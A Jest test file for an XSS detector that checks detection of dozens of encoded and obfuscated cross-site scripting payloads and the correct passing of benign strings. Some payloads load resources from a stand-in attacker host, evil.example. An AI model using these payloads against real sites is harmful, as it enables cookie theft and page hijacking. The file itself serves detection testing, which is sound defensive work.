import nodeFs from 'node:fs';
import nodePath from 'node:path';
import { existsSync, readFileSync } from 'fs';
import { gunzipSync } from 'zlib';
import { createDetectorInput, makePoint } from '../../detector-input';
import type { Point } from '../../types';
import { xssDetector } from './index';

const detect = (value: string, path = 'query.q', over: Partial<Point> = {}) => xssDetector.detect(createDetectorInput(makePoint(value, path, over)));
const conf = (value: string, path?: string, over?: Partial<Point>): number => detect(value, path, over)?.confidence ?? 0;

describe('xssDetector attacks', () => {
  it.each([
    '<script>alert(1)</script>',
    '<svg/onload=alert(1)>',
    '<img src=x onerror=alert(1)>',
    '"><img src=x onerror=alert(document.cookie)>',
    '<IMG SRC="jav&#x09;ascript:alert(1)">',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '%253Csvg%2Fonload%3Dalert(1)%253E',
    '<scr<script>ipt>alert(1)</script>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<iframe src="javascript:alert(1)">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<form><button formaction=javascript:alert(1)>x',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<div style="width:expression(alert(1))">',
    '<div style="x:expr/**/ession(alert(1))">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=import href=//evil.example/x.html>',
    '<base href="//evil.example/">',
    '<x onpointerrawupdate=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<x%0Conload=alert(1)>',
    '" onmouseover="alert(1)" x="',
    "'-alert(1)-'",
    '";alert(1)//',
    '</script><script>alert(1)</script>',
    'javascript:alert(document.domain)',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '＜script＞alert(1)＜/script＞',
    '{{constructor.constructor(\'alert(1)\')()}}',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ])('detects %s', (payload) => {
    expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
  });

  it('ranks a full executable construct above a bare tag', () => {
    expect(conf('<img src=x onerror=alert(1)>')).toBeGreaterThan(conf('<svg>'));
    expect(detect('<svg/onload=alert(1)>')?.detail).toMatch(/^xss:handler:load/);
  });

  it('reports an excerpt of the decoded match', () => {
    expect(detect('%3Cscript%3Ealert(1)%3C/script%3E')?.excerpt).toContain('<script>');
  });
});

describe('xssDetector layered encodings and less common vectors', () => {
  it.each([
    // two JS layers: a JS-escaped payload reflected into another JS/JSON string
    ['\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', /^xss:tag:script|^xss:handler/],
    ['\\u003ca href=\\u0022\\\\x0Bjavascript:alert(1)\\u0022\\u003ex\\u003c/a\\u003e', /^xss:url:javascript/],
    ['al\\u005cu0065rt(1)', /^xss:js:sink:alert/],
    // a JS layer over a percent layer
    ['\\u0025\\u0033Cscript\\u0025\\u0033Ealert(1)\\u0025\\u0033C/script\\u0025\\u0033E', /^xss:tag:script/],
    // C0 control as an attribute separator (old IE, lenient sanitizers)
    ['<img src=x\\x10onerror="alert(1)">', /^xss:attr-injection:error\+script/],
    // a style attribute injected into the reflecting tag
    ['<// style=x:expression\\28javascript:alert(1)\\29>', /^xss:style-injection:expression/],
    ['" style="width:expression(alert(1))" x="', /^xss:style-injection:expression/],
    // data: URL of an unusual media type carrying script in base64
    ['<a href="data:application/x-x509-user-cert;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>', /^xss:url:data-base64/],
    // a script URL behind a mangled prefix
    ['<a href="jav&#65ascript:javascript:alert(1)">x</a>', /^xss:url:embedded-javascript/],
    // XML Events
    ['<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>', /^xss:xml-events/],
    // US-ASCII read with the eighth bit dropped
    ['\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be', /^xss:tag:script/],
    // IE XML data island: comments and CDATA joins vanish before binding
    ['<XML ID="xss"><I><B>&lt;IMG SRC="javas<!-- -->cript:alert(1)"&gt;</B></I></XML>', /^xss:url:javascript/],
    // DTD default handler attribute
    ['<!ATTLIST img onerror CDATA "alert(1)">', /^xss:attlist:error/],
    [' onload CDATA "alert(2)">', /^xss:attlist:load/],
    // strict (`;`-terminated) entity layer over the browser's lenient one
    ['<IMG SRC="jav&#x09&#59;ascript&#58;alert&#40;1&#41;&#59;">', /^xss:url:javascript/],
  ])('detects %s', (payload, rule) => {
    const d = detect(payload);
    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    expect(d?.detail).toMatch(rule);
  });

  it.each([
    'a\\u003cb and c\\u003ed', // doubly escaped comparison operators
    '{"msg":"100\\u0025 done, see \\u0025s"}',
    'Mix \u00bc cup sugar with \u00be cup flour',
    '<p style="color:red;font-weight:bold">hi</p>',
    'style=compact&online=1',
    '<a href="https://example.com/docs/javascript-intro">JavaScript: intro</a>',
    '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">',
    '<xml><note>see <!-- hidden --> text</note></xml>',
    'Tom &amp; Jerry &#169; 2024; fish &#38; chips',
    'x\u0010onboarding=1',
    '<event listener="load">',
    '<!ATTLIST note lang CDATA "en">',
    'Field onload CDATA "not a script here" documented',
  ])('leaves %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });
});

describe('xssDetector HTML injection without script, CSS injection, glued and re-encoded markup', () => {
  const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

  it.each([
    ['<div style=content:url(//evil.example/a.svg)></div>', /^xss:style:url-document/],
    ['<rect style="clip-path:url(x.svg#a);fill:url(#b)"/>', /^xss:style:url-document/],
    ['<p style="cursor:url(https://evil.example/c.cur),auto">', /^xss:style:url-document/],
  ])('flags a style url() that loads a document: %s', (payload, rule) => {
    expect(detect(payload)?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    expect(detect(payload)?.detail).toMatch(rule);
  });

  it.each([
    '<span style="background-image:url(https://cdn.example.com/hero.jpg)">Sale</span>',
    '<div style="background:url(/img/bg.png) no-repeat">x</div>',
    '<i style="background:url(data:image/png;base64,iVBORw0KGgo=)"></i>',
  ])('keeps a picture in a style url() as a hint under the default threshold (rich text writes them): %s', (payload) => {
    expect(detect(payload)?.confidence ?? 0).toBeLessThan(0.5);
  });

  it.each([
    // elements dangerous without script: form hijack, foreign-content roots (mXSS), base, meta refresh
    ['<form>', /^xss:form$/],
    ['<form action=//evil.example/login>', /^xss:form:action/],
    ['<math>', /^xss:tag:math/],
    ['<svg>', /^xss:tag:svg/],
    ['"><math><mtext><table><mglyph><style><!--</style>', /^xss:tag:(math|style)/],
    ['<base href=//evil.example/>', /^xss:tag:base/],
    ['<meta http-equiv=refresh content="0;url=//evil.example">', /^xss:meta:refresh/],
    // style attributes that load resources or hide from filters
    ["<x style=\"background:url('x&#1;;color:red;/*')\">X</x>", /^xss:style:obfuscated/],
    ['<div style="background:url(/f#&#127;oo/;color:red/*/foo.jpg);">X', /^xss:style:obfuscated/],
    ['<div style="background:url(/f#[a]oo/;color:red/*/foo.jpg);">X</div>', /^xss:style:obfuscated/],
    ["<x style=\"background:url('x[a];color:red;/*')\">XXX</x>", /^xss:style:obfuscated/],
    ['<div style="\\63&#9\\06f&#10\\0006c:red">X</div>', /^xss:style:obfuscated/],
    ["<p style=\"font-family:'a\\27\\3B color\\3Ared'\">X</p>", /^xss:style:obfuscated/],
    ['<p style="behavior:url(x.htc)">', /^xss:style:behavior/],
    ['<p style="-moz-binding:url(//evil.example/x.xml#x)">', /^xss:style:moz-binding/],
    // a handler glued to the tag name with separator junk
    ['<img[1]src[2]=x[3]onerror=[4]"alert(1)">', /^xss:handler-glued:error\+script/],
    ['<svg|onload=alert(1)>', /^xss:handler-glued:load\+script/],
    // base64 that the peeler cannot take whole: percent-encoded alphabet, junk after the padding
    [`${b64('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\r\n').replace(/\+/g, '%2B').replace(/=/g, '%3D')}"/>`, /^xss:tag:script/],
    [`${b64('<img src=x onerror=alert(1)>')}"/>`, /^xss:handler:error/],
  ])('detects %s', (payload, rule) => {
    const d = detect(payload);
    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    expect(d?.detail).toMatch(rule);
  });

  it.each([
    // form-encoded spaces left in a value (a query string that was base64-encoded whole)
    ['<img+src=x+onerror=alert(1)>', /^xss:handler:error\+script/],
    ['<SCRIPT+FOR=document+EVENT=onreadystatechange>x()</SCRIPT>', /^xss:tag:script/],
  ])('reads `+` as a form-encoded space in a peeled value: %s', (payload, rule) => {
    const d = detect(payload, 'query.q[base64]', { encodings: ['base64'] });
    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    expect(d?.detail).toMatch(rule);
  });

  it.each([
    // the re-readings (data island, eighth bit) also apply to JS-decoded and strictly entity-decoded views
    ['\\u003cXML ID\\u003d\\u0022x\\u0022\\u003e\\u0026lt;IMG SRC=\\u0022javas\\u003c!-- --\\u003ecript:alert(1)\\u0022\\u0026gt;\\u003c/XML\\u003e', /^xss:url:javascript/],
    ['<XML ID=&#34;x&#34;>&lt&#59;IMG SRC=&#34;javas<!-- -->cript&#58;alert(1)&#34;&gt&#59;</XML>', /^xss:url:javascript/],
    ['\\u00bcscript\\u00bealert(1)\\u00bc/script\\u00be', /^xss:tag:script/],
  ])('combines a decoding layer with a re-reading: %s', (payload, rule) => {
    const d = detect(payload);
    expect(d?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    expect(d?.detail).toMatch(rule);
  });

  it.each([
    '<span style="color:red">x</span>',
    '<p style="color:#333;font-weight:bold;margin:0 0 1em">x</p>',
    '<p style="font-family:\'\\5FAE\\8F6F\\96C5\\9ED1\'">CJK font name</p>',
    '<div style="width:100px\\9;height:20px">IE hack</div>',
    '<q style="quotes:\'\\201C\' \'\\201D\'">x</q>',
    '<svg:path style="fill:url(#grad)"/>',
    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'%3E%3Cpath d='M0 0h8v8H0z'/%3E%3C/svg%3E",
    'background:url("data:image/svg+xml;charset=utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")',
    '<b>bold</b> <i>it</i> <p>para</p> <div>box</div> <br> <a href="https://example.com/x">link</a>',
    'SGVsbG8gd29ybGQhIEhlbGxvIGFnYWluIQ=="/>',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    'a<b+c and d<e+f',
    'List<String+Integer> x',
  ])('leaves %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });

  it('leaves `+` in an ordinary value alone', () => {
    expect(conf('a<b+c', 'query.q[base64]', { encodings: ['base64'] })).toBeLessThan(0.5);
  });
});

describe('xssDetector benign', () => {
  it.each([
    'a < b and b > c',
    'I <3 this product',
    'x<y>z',
    'List<String> names = new ArrayList<>();',
    'Contact: Bob <bob@example.com>',
    '**bold** and [link](https://example.com) in markdown',
    '<b>bold</b> and <i>italic</i> and <p>paragraph</p>',
    '<a href="https://example.com/page?x=1">link</a>',
    "O'Reilly; Smith & Sons (UK)",
    'javascript:void(0)',
    'javascript:;',
    'Learn JavaScript: the good parts',
    'if (a < b) { return a; }',
    'onboarding=true&online=1',
    'The function alert is used in tutorials',
    'data:image/png;base64,iVBORw0KGgo=',
    'https://example.com/search?q=a%3Cb',
    '{{ first_name }}, your order has shipped',
    '<3 <3 <3',
  ])('leaves %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });

  it('is not fooled into flagging a key that merely starts with "on"', () => {
    expect(conf('online', 'query.online', { isKey: true })).toBe(0);
  });
});

// the corpus sits in shared/ beside the clone (or KAS_CORPUS_DIR); skipped when absent
const corpus = [process.env.KAS_CORPUS_DIR ?? '', nodePath.resolve(__dirname, '../../../../shared/corpus'), '/work/shared/corpus']
  .map((d: string) => `${d}/attacks-dev.jsonl.gz`)
  .find((f: string) => nodeFs.existsSync(f)) ?? '/work/shared/corpus/attacks-dev.jsonl.gz';
(existsSync(corpus) ? describe : describe.skip)('dev corpus (xss)', () => {
  it('detects the large majority of executable xss payloads', () => {
    const lines = gunzipSync(readFileSync(corpus)).toString('utf8').split('\n').filter(Boolean);
    const payloads = [...new Set(lines.map((l) => JSON.parse(l) as { type: string; payload: string }).filter((o) => o.type === 'xss').map((o) => o.payload))];
    // Only payloads that can execute something: a tag with a handler/script, or a script URL.
    const executable = payloads.filter((p) => /<script|on[a-z]{3,}\s*=|javascript:/i.test(p));
    const hits = executable.filter((p) => conf(p) >= 0.5).length;
    expect(hits / executable.length).toBeGreaterThan(0.95);
  });
});
